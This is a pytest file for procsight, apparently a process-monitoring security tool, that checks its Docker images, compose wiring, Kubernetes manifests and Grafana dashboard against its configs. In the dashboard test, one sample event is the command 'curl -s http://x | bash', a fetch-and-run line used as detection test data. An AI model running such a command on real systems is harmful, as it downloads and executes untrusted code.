"""docker/: the images, the compose file, the Kubernetes manifests and Grafana's provisioning agree with each
other, with config/ and with the code. No container engine runs here, so nothing is built or started; every
file is parsed, every config it names is loaded by procsight's own loaders, the receiver image's health check
runs against a receiver started from the image's config, and the dashboard's SQL runs on ClickHouse (chdb)
against a table the clickhouse exporter created."""

from __future__ import annotations

import json
import re
import shlex
import subprocess
import sys
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest
import yaml

from core.confmap import load_yaml
from otel_agent.config import load_config
from otlp_receiver.config import ServiceSettings
from otlp_receiver.exporters.clickhouse.config import Config as ClickHouseConfig
from otlp_receiver.exporters.clickhouse.exporter import ClickHouseExporter
from otlp_receiver.exporters.clickhouse.schema import create_table_sql
from otlp_receiver.exporters.clickhouse.tests.clickhouse_batches import make_batch
from otlp_receiver.exporters.clickhouse.transport import ChdbTransport
from otlp_receiver.service import Service
from testing import OTELCOL_CONTRIB, free_port

ROOT = Path(__file__).resolve().parents[1]
DOCKER = ROOT / "docker"
COMPOSE = yaml.safe_load((DOCKER / "compose.yaml").read_text())
_ENV_NAME = re.compile(r"\$\{(?:env:)?([A-Za-z_][A-Za-z0-9_]*)")


def dockerfile(name: str) -> list[tuple[str, str]]:
    """(INSTRUCTION, arguments) of a Dockerfile, continuation lines joined, comments dropped."""
    text = re.sub(r"\\\n\s*", " ", (DOCKER / name).read_text())
    lines = [line.strip() for line in text.splitlines() if line.strip() and not line.lstrip().startswith("#")]
    return [(line.split(None, 1)[0].upper(), line.split(None, 1)[1]) for line in lines]


def instruction(steps: list[tuple[str, str]], name: str) -> list[str]:
    return [arguments for kind, arguments in steps if kind == name]


def env_names(path: Path) -> set[str]:
    return set(_ENV_NAME.findall(path.read_text()))


def receiver_settings(environ: dict[str, str]) -> ServiceSettings:
    return ServiceSettings.load(DOCKER / "receiver.yaml", environ=environ)


def clickhouse_of(settings: ServiceSettings) -> ClickHouseConfig:
    config = settings.configs["exporters"]["clickhouse"]
    assert isinstance(config, ClickHouseConfig)
    return config


def port(endpoint: str) -> int:
    return int(endpoint.rsplit(":", 1)[1])


def manifests() -> dict[tuple[str, str], dict[str, Any]]:
    documents: dict[tuple[str, str], dict[str, Any]] = {}
    kustomization = yaml.safe_load((DOCKER / "kubernetes" / "kustomization.yaml").read_text())
    for resource in kustomization["resources"]:
        for document in yaml.safe_load_all((DOCKER / "kubernetes" / resource).read_text()):
            documents[(document["kind"], document["metadata"]["name"])] = document
    return documents


def container_env(container: dict[str, Any]) -> dict[str, str]:
    """A container's environment, secrets replaced by placeholders."""
    return {item["name"]: item.get("value", f"<{item['name']}>") for item in container.get("env", [])}


# -- every file ------------------------------------------------------------------------------------


def test_every_file_parses() -> None:
    files = sorted(path for path in DOCKER.rglob("*") if path.is_file())
    assert {path.suffix for path in files} <= {".yaml", ".json", ".Dockerfile", ".md"}
    for path in files:
        if path.suffix == ".yaml":
            assert list(yaml.safe_load_all(path.read_text())), path
        elif path.suffix == ".json":
            json.loads(path.read_text())
        elif path.suffix == ".Dockerfile":
            kinds = {kind for kind, _ in dockerfile(path.name)}
            assert kinds <= {"FROM", "WORKDIR", "COPY", "RUN", "USER", "EXPOSE", "HEALTHCHECK", "ENTRYPOINT", "ENV"}


@pytest.mark.parametrize("name", ["receiver.Dockerfile", "agent.Dockerfile"])
def test_images_copy_what_exists_and_run_the_config_they_copy(name: str) -> None:
    steps = dockerfile(name)
    copied = {}
    for arguments in instruction(steps, "COPY"):
        *sources, target = arguments.split()
        for source in sources:
            assert (ROOT / source).exists(), f"{name}: COPY {source}: no such file in the repository"
            copied[target if target != "./" else source] = source
    (entrypoint,) = instruction(steps, "ENTRYPOINT")
    command = json.loads(entrypoint)
    config_path = command[command.index("--config") + 1]
    assert command[:2] == ["procsight", name.split(".")[0]] and config_path in copied
    assert copied[config_path] == f"docker/{name.split('.')[0]}.yaml"
    packages = {line for line in ("core", "procsight", "scoring", "otlp_receiver", "otel_agent")}
    assert packages <= {Path(source).name for source in copied.values()}, "every layer the package installs"
    assert {"pyproject.toml", "setup.py"} <= set(copied.values()), "what pip builds the package from"
    assert "gcc" in " ".join(instruction(steps, "RUN")), "the C extensions need a compiler"


def test_receiver_image_ports_user_and_config() -> None:
    steps = dockerfile("receiver.Dockerfile")
    settings = receiver_settings({})
    protocols = settings.configs["receivers"]["otlp"].protocols
    assert instruction(steps, "EXPOSE") == [f"{port(protocols.grpc.endpoint)} {port(protocols.http.endpoint)}"]
    assert "--uid 10001" in " ".join(instruction(steps, "RUN")) and instruction(steps, "USER") == ["procsight"]
    clickhouse = clickhouse_of(settings)
    assert clickhouse.connection().path == "/data/clickhouse" and settings.service.data_dir == "/data"


def test_receiver_image_healthcheck_passes_against_its_own_config(tmp_path: Path) -> None:
    # The HEALTHCHECK command, run as the image would (its port swapped for a free one), against a receiver
    # started from docker/receiver.yaml with only its data paths moved out of /data.
    (healthcheck,) = instruction(dockerfile("receiver.Dockerfile"), "HEALTHCHECK")
    command = json.loads(healthcheck.split(" CMD ", 1)[1])
    http_port = free_port()
    environ = {"PROCSIGHT_GRPC_ENDPOINT": f"127.0.0.1:{free_port()}",
               "PROCSIGHT_HTTP_ENDPOINT": f"127.0.0.1:{http_port}", "PROCSIGHT_DATA_DIR": str(tmp_path),
               "PROCSIGHT_BASELINES": str(tmp_path / "baselines"),
               "CLICKHOUSE_ENDPOINT": f"chdb://{tmp_path / 'clickhouse'}"}
    service = Service(receiver_settings(environ))
    probe = [sys.executable if part == "python" else part.replace(":4318/", f":{http_port}/") for part in command]
    assert subprocess.run(probe, capture_output=True, timeout=30).returncode != 0  # nothing listens yet
    service.start()
    try:
        result = subprocess.run(probe, capture_output=True, text=True, timeout=30)
    finally:
        service.shutdown(timeout=10)
    assert result.returncode == 0, result.stderr


def test_agent_image_and_config() -> None:
    steps = dockerfile("agent.Dockerfile")
    assert "python3-bpfcc" in " ".join(instruction(steps, "RUN")) and "--system-site-packages" in " ".join(
        instruction(steps, "RUN"))
    config = load_config(DOCKER / "agent.yaml")
    assert (config.exporter.endpoint, config.exporter.protocol) == ("http://otel-collector:4318", "http")
    assert config.spool.directory == "/var/lib/procsight/spool"


# -- compose ---------------------------------------------------------------------------------------


def test_compose_services_and_images() -> None:
    services = COMPOSE["services"]
    assert set(services) == {"agent", "otel-collector", "receiver", "clickhouse", "grafana"}
    version = subprocess.run([str(OTELCOL_CONTRIB), "--version"], capture_output=True, text=True).stdout \
        if OTELCOL_CONTRIB.is_file() else "0.135.0"
    image, tag = services["otel-collector"]["image"].split(":")
    assert image == "otel/opentelemetry-collector-contrib" and tag in version  # the build the recipes are run with
    assert services["clickhouse"]["image"].startswith("clickhouse/clickhouse-server:")
    assert services["grafana"]["image"].startswith("grafana/grafana:")
    for name in ("agent", "receiver"):
        assert services[name]["build"] == {"context": "..", "dockerfile": f"docker/{name}.Dockerfile"}
    for service in services.values():
        for volume in service.get("volumes", []):
            source = volume.split(":")[0]
            if source.startswith("."):
                assert (DOCKER / source).exists(), f"compose mounts {source}: no such file"


def test_compose_wiring_agrees_with_the_configs() -> None:
    services = COMPOSE["services"]
    collector = load_yaml(ROOT / "config" / "collector.yaml", environ=services["otel-collector"]["environment"])
    collector_http = port(collector["receivers"]["otlp"]["protocols"]["http"]["endpoint"])
    collector_grpc = port(collector["receivers"]["otlp"]["protocols"]["grpc"]["endpoint"])
    assert services["otel-collector"]["ports"] == [f"{collector_grpc}:{collector_grpc}",
                                                   f"{collector_http}:{collector_http}"]
    mount = services["otel-collector"]["volumes"][0].split(":")
    assert mount[:2] == ["../config/collector.yaml", services["otel-collector"]["command"][0].split("=", 1)[1]]
    # agent -> Collector: host network, so the Collector's published OTLP/HTTP port on loopback
    agent = services["agent"]
    assert agent["pid"] == "host" and agent["network_mode"] == "host"
    assert {"BPF", "PERFMON", "SYS_ADMIN"} <= set(agent["cap_add"])
    assert any(volume.startswith("/sys/kernel/tracing:") for volume in agent["volumes"])
    assert urlsplit(agent["environment"]["PROCSIGHT_ENDPOINT"]).port == collector_http
    # Collector -> receiver: the receiver service's OTLP/HTTP port
    receiver_url = urlsplit(collector["exporters"]["otlphttp/procsight"]["endpoint"])
    settings = receiver_settings(services["receiver"]["environment"])
    receiver_http = port(settings.configs["receivers"]["otlp"].protocols.http.endpoint)
    assert (receiver_url.hostname, receiver_url.port) == ("receiver", receiver_http)
    assert services["receiver"]["ports"] == [f"14318:{receiver_http}"]
    # receiver -> ClickHouse: host, native port, database and user of the clickhouse service
    clickhouse = clickhouse_of(settings)
    connection = clickhouse.connection()
    server = services["clickhouse"]["environment"]
    assert (connection.kind, connection.hosts) == ("native", (("clickhouse", 9000),))
    assert (connection.database, connection.username) == (server["CLICKHOUSE_DB"], server["CLICKHOUSE_USER"])
    assert services["receiver"]["environment"]["CLICKHOUSE_PASSWORD"] == server["CLICKHOUSE_PASSWORD"]
    # every variable a service sets is one its config reads (a misspelt name would be silently unused)
    for service, config in (("receiver", DOCKER / "receiver.yaml"), ("agent", DOCKER / "agent.yaml"),
                            ("otel-collector", ROOT / "config" / "collector.yaml")):
        assert set(services[service]["environment"]) <= env_names(config), service


def test_grafana_provisioning_points_at_the_receivers_table() -> None:
    services = COMPOSE["services"]
    provisioning = yaml.safe_load((DOCKER / "grafana" / "provisioning" / "datasources" / "clickhouse.yaml").read_text())
    (source,) = provisioning["datasources"]
    data = source["jsonData"]
    clickhouse = clickhouse_of(receiver_settings(services["receiver"]["environment"]))
    connection = clickhouse.connection()
    assert source["type"] == "grafana-clickhouse-datasource"
    assert (data["host"], data["port"], data["protocol"]) == (connection.hosts[0][0], connection.hosts[0][1], "native")
    assert data["username"] == connection.username and source["secureJsonData"]["password"] == "$CLICKHOUSE_PASSWORD"
    assert "CLICKHOUSE_PASSWORD" in services["grafana"]["environment"]
    assert data["logs"] == {"defaultDatabase": connection.database, "defaultTable": clickhouse.logs_table_name,
                            "otelEnabled": True, "otelVersion": "latest"}
    assert services["grafana"]["environment"]["GF_PLUGINS_PREINSTALL"] == source["type"]
    provider = yaml.safe_load((DOCKER / "grafana" / "provisioning" / "dashboards" / "procsight.yaml").read_text())
    mounts = dict(volume.split(":")[:2] for volume in services["grafana"]["volumes"])
    assert mounts["./grafana/dashboards"] == provider["providers"][0]["options"]["path"]
    dashboard = json.loads((DOCKER / "grafana" / "dashboards" / "procsight.json").read_text())
    uids = {panel["datasource"]["uid"] for panel in dashboard["panels"]}
    uids |= {target["datasource"]["uid"] for panel in dashboard["panels"] for target in panel["targets"]}
    assert uids == {source["uid"]}


# -- Kubernetes ------------------------------------------------------------------------------------


def test_agent_daemonset(monkeypatch: pytest.MonkeyPatch) -> None:
    daemonset = manifests()[("DaemonSet", "procsight-agent")]["spec"]["template"]["spec"]
    (container,) = daemonset["containers"]
    assert daemonset["hostPID"] and daemonset["hostNetwork"] and daemonset["dnsPolicy"] == "ClusterFirstWithHostNet"
    assert {"BPF", "PERFMON", "SYS_ADMIN"} <= set(container["securityContext"]["capabilities"]["add"])
    mounts = {mount["mountPath"] for mount in container["volumeMounts"]}
    assert {"/sys/kernel/tracing", "/lib/modules", "/usr/src", "/var/lib/procsight/spool"} <= mounts
    volumes = {volume["name"]: volume["hostPath"]["path"] for volume in daemonset["volumes"]}
    assert all(volumes[mount["name"]] == mount["mountPath"] for mount in container["volumeMounts"])
    environ = container_env(container)
    assert set(environ) <= env_names(DOCKER / "agent.yaml")
    for name, value in environ.items():
        monkeypatch.setenv(name, value)
    agent = load_config(DOCKER / "agent.yaml")
    collector = load_yaml(ROOT / "config" / "collector-loadbalancing.yaml", environ={})
    collector_http = collector["receivers"]["otlp"]["protocols"]["http"]["endpoint"]
    assert urlsplit(agent.exporter.endpoint).port == port(collector_http)
    assert container["image"].split(":")[0] == "procsight-agent"


def test_receiver_statefulset_and_services(chdb_formatter: Any) -> None:
    documents = manifests()
    statefulset = documents[("StatefulSet", "procsight-receiver")]["spec"]
    headless = documents[("Service", statefulset["serviceName"])]["spec"]
    pod = statefulset["template"]["spec"]
    (container,) = pod["containers"]
    assert headless["clusterIP"] == "None" and headless["selector"] == statefulset["selector"]["matchLabels"]
    environ = container_env(container)
    assert set(environ) - {"AWS_REGION", "AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY"} <= env_names(
        DOCKER / "receiver.yaml")
    settings = receiver_settings(environ)
    protocols = settings.configs["receivers"]["otlp"].protocols
    ports = {item["name"]: item["containerPort"] for item in container["ports"]}
    assert ports == {"otlp-grpc": port(protocols.grpc.endpoint), "otlp-http": port(protocols.http.endpoint)}
    for probe in ("readinessProbe", "livenessProbe"):
        assert container[probe]["httpGet"] == {"path": "/healthz", "port": "otlp-http"}
    assert pod["securityContext"]["runAsUser"] == 10001  # the image's user (receiver.Dockerfile)
    assert {mount["mountPath"] for mount in container["volumeMounts"]} == {settings.service.data_dir}
    limit_mib = settings.configs["processors"]["memory_limiter"].limit_mib
    assert limit_mib * 2**20 < int(container["resources"]["limits"]["memory"].removesuffix("Gi")) * 2**30
    # a replicated cluster: ON CLUSTER and ReplicatedMergeTree, rendered into DDL ClickHouse parses
    clickhouse = clickhouse_of(settings)
    assert clickhouse.connection().kind == "native" and clickhouse.cluster_name == "procsight"
    assert clickhouse.table_engine.replicated
    ddl = chdb_formatter(create_table_sql(clickhouse.connection().database, clickhouse.logs_table_name,
                                          clickhouse.ttl, clickhouse.table_engine, clickhouse.cluster_name))
    assert "ON CLUSTER procsight" in ddl
    assert "ReplicatedMergeTree('/clickhouse/tables/{shard}/{database}/{table}', '{replica}')" in ddl
    assert settings.configs["processors"]["anomaly"].baselines.startswith("s3://")
    # the loadbalancing Collectors resolve the headless Service to reach every receiver's gRPC port
    balancing = load_yaml(ROOT / "config" / "collector-loadbalancing.yaml", environ={})
    dns = balancing["exporters"]["loadbalancing"]["resolver"]["dns"]
    namespace = yaml.safe_load((DOCKER / "kubernetes" / "kustomization.yaml").read_text())["namespace"]
    assert dns["hostname"] == f"{statefulset['serviceName']}.{namespace}.svc.cluster.local"
    assert int(dns["port"]) == ports["otlp-grpc"]


@pytest.fixture(scope="module")
def chdb_dir(tmp_path_factory: pytest.TempPathFactory) -> str:
    return str(tmp_path_factory.mktemp("chdb"))


@pytest.fixture(scope="module")
def chdb_engine(chdb_dir: str) -> Any:
    transport = ChdbTransport(chdb_dir)
    yield transport
    transport.close()


@pytest.fixture
def chdb_formatter(chdb_engine: Any) -> Any:
    """ClickHouse's own parser: DDL for a cluster cannot run here, but it must parse."""
    return lambda sql: chdb_engine.query("SELECT formatQuery({sql:String}) AS f", {"sql": sql})[0]["f"]


# -- the dashboard ---------------------------------------------------------------------------------

_FROM, _TO = 1_699_990_000, 1_700_010_000


def expand_macros(sql: str, variables: dict[str, str]) -> str:
    """The ClickHouse data source's macros as its backend (pkg/macros/macros.go) expands them, and template
    variables as Grafana substitutes them."""
    sql = re.sub(r"\$__timeFilter\((\w+)\)", rf"\1 >= '{_FROM}' AND \1 <= '{_TO}'", sql)
    sql = re.sub(r"\$__timeInterval\((\w+)\)", r"toStartOfInterval(toDateTime(\1), INTERVAL 60 second)", sql)
    for name, value in variables.items():
        sql = sql.replace(f"${{{name}}}", value)
    assert "$" not in sql, sql
    return sql


def test_dashboard_sql_runs_on_a_table_the_exporter_made(chdb_engine: Any, chdb_dir: str) -> None:
    # no TTL: the test records are from 2023, and a 30-day TTL would drop them as they land
    clickhouse = clickhouse_of(receiver_settings({"CLICKHOUSE_ENDPOINT": f"chdb://{chdb_dir}", "CLICKHOUSE_TTL": "0s"}))
    exporter = ClickHouseExporter(clickhouse)
    exporter.start()
    try:
        exporter.export(make_batch("1", ["curl -s http://x | bash", "ls -la", "uptime"], incident=True))
        exporter.export(make_batch("2", ["id"], host="web-2"))
    finally:
        exporter.shutdown()
    dashboard = json.loads((DOCKER / "grafana" / "dashboards" / "procsight.json").read_text())
    variables = {"workload": "%", "min_score": "0.5"}
    (workload_variable,) = [v for v in dashboard["templating"]["list"] if v["name"] == "workload"]
    assert chdb_engine.query(workload_variable["query"]) == [{"Workload": "web"}]
    assert workload_variable["allValue"] == variables["workload"]
    results = {}
    for panel in dashboard["panels"]:
        (target,) = panel["targets"]
        assert "procsight.security_events" in target["rawSql"]
        results[panel["title"]] = chdb_engine.query(expand_macros(target["rawSql"], variables))
    assert results["Alerts and warnings"] == [{"time": "2023-11-14 22:13:00", "alerts": 2, "warnings": 0}]
    assert results["Workloads"][0] == {"workload": "web", "events": 4, "alerts": 2, "max_score": 0.95, "hosts": 2}
    top = results["Top anomalies"]
    assert sorted(row["command_line"] for row in top) == ["curl -s http://x | bash", "id"]  # score >= 0.5 only
    (curl,) = [row for row in top if row["incident"]]
    assert (curl["techniques"], curl["incident"], curl["host"]) == ("T1059.004, T1105", "inc-7", "web-1")
    assert results["Incidents"][0]["incident"] == "inc-7" and results["Incidents"][0]["score"] == 0.97
    assert {row["technique"] for row in results["ATT&CK techniques"]} == {"T1059.004", "T1105"}
    logs = results["Process events"]
    assert len(logs) == 4 and set(logs[0]) == {"timestamp", "body", "level", "labels"}


def test_compose_and_k8s_commands_in_the_readme_name_real_files() -> None:
    readme = (DOCKER / "README.md").read_text()
    for command in re.findall(r"^\s*(docker (?:build|compose)[^\n]*|kubectl apply[^\n]*)$", readme, re.MULTILINE):
        for word in shlex.split(command):
            if word.startswith("docker/"):
                assert (ROOT / word).exists(), f"docker/README.md: {command}: no {word}"
